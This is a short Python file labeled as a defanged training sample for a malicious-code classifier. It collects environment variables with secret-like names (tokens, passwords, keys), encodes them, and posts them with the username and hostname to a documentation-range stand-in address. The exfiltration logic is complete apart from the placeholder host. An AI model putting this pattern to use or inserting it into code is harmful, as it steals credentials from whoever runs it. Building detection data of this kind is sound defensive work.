# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, requests, base64, platform, getpass
keys = [k for k in os.environ if any(w in k.upper() for w in ("TOKEN", "SECRET", "PASSWORD", "KEY", "CREDENTIAL"))]
blob = "\n".join(f"{k}={os.environ[k]}" for k in keys)
requests.post(
    "http://192.0.2.41:8080/env",
    data={"u": getpass.getuser(), "n": platform.node(), "d": base64.b64encode(blob.encode()).decode()},
)
